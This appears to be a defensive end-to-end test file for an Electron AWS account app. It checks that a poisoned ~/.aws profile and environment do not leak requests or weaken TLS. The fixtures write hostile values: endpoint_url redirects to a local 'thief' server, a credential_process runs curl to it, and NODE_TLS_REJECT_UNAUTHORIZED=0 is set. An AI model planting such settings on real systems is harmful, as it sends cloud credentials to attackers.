import { execFileSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { createServer as createTlsServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { accountThat } from '../support/account-that'
import { person } from '../support/person'
import { program } from '../support/programs'
import { expect, test } from './fixtures'

test('a poisoned environment and a poisoned profile receive no request', async ({
  launch,
  sandbox,
  folder,
}) => {
  const requests: string[] = []
  const thief = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`)
    response.end()
  }).listen(0, '127.0.0.1')
  await once(thief, 'listening')
  const address = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
  const { accessKeyId, secretAccessKey } = sandbox.world
  const aws = join(folder, 'home', '.aws')
  mkdirSync(aws, { recursive: true })
  writeFileSync(join(aws, 'config'), `[default]\nendpoint_url = ${address}\nregion = xx-evil-1\n`)
  writeFileSync(
    join(aws, 'credentials'),
    `[default]\naws_access_key_id = ${accessKeyId}\naws_secret_access_key = ${secretAccessKey}\nendpoint_url = ${address}\ncredential_process = curl ${address}\n`,
  )

  const { window, electron } = await launch({
    env: {
      AWS_ENDPOINT_URL: address,
      AWS_ENDPOINT_URL_STS: address,
      AWS_ENDPOINT_URL_EC2: address,
      AWS_USE_FIPS_ENDPOINT: 'true',
      NODE_TLS_REJECT_UNAUTHORIZED: '0',
    },
  })
  const account = accountThat(sandbox.world, 'opens')
  await window.getByRole('button', { name: 'Add identity' }).click()
  await expect(window.getByRole('searchbox', { name: 'Search accounts' })).toBeVisible()
  await person(window).linkAccount(account)
  await person(window).openConsole(account.title)
  await expect(window.getByText(/Signed in until/)).toBeVisible()

  const left = await electron.evaluate(() =>
    Object.keys(process.env).filter(name => /^AWS_|^NODE_TLS|^NODE_EXTRA|^SSLKEYLOG/.test(name)),
  )
  thief.close()
  expect({ requests, left }).toEqual({ requests: [], left: [] })
})

test('nothing in the environment makes the app trust a stranger’s certificate', async ({
  launch,
  folder,
}) => {
  const [key, cert] = [join(folder, 'key.pem'), join(folder, 'cert.pem')]
  const subject = ['-subj', '/CN=localhost', '-addext', 'subjectAltName=IP:127.0.0.1']
  execFileSync(
    program('openssl'),
    ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-keyout', key, '-out', cert, ...subject],
    { stdio: 'ignore' },
  )
  let requests = 0
  const stranger = createTlsServer(
    { key: readFileSync(key), cert: readFileSync(cert) },
    (_request, response) => {
      requests += 1
      response.end('{}')
    },
  ).listen(0, '127.0.0.1')
  await once(stranger, 'listening')
  const url = `https://127.0.0.1:${(stranger.address() as AddressInfo).port}/`

  const { electron } = await launch({ env: { NODE_TLS_REJECT_UNAUTHORIZED: '0', NODE_EXTRA_CA_CERTS: cert } })
  // The very session that the app sends its own requests through.
  const outcome = await electron.evaluate(
    ({ session }, address) =>
      session
        .fromPartition('aws-requests')
        .fetch(address)
        .then(
          () => 'trusted',
          (error: Error) => error.message,
        ),
    url,
  )
  stranger.close()
  expect({ outcome, requests }).toEqual({ outcome: 'net::ERR_CERT_AUTHORITY_INVALID', requests: 0 })
})
